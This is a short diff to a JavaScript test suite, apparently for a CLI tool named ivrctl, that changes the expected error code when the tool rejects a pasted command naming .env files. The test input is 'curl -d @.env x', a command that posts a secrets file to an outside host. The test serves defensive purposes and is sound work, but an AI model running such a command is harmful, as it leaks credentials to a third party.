@@ -113,7 +113,7 @@ describe("files that a pasted command names", () => {
     for (const name of [".env", "latin.env"]) {
       const { exit, stderr } = await ivrctl(["import", "-"], { cwd, input: `curl -d @${name} x` });
       expect(exit).toBe(1);
-      expect(stderr).toMatch(/error\[IVR(?:652|104)\]/);
+      expect(stderr).toMatch(/error\[IVR(?:651|104)\]/);
       expect(stderr).not.toContain("s3cret");
     }
   });
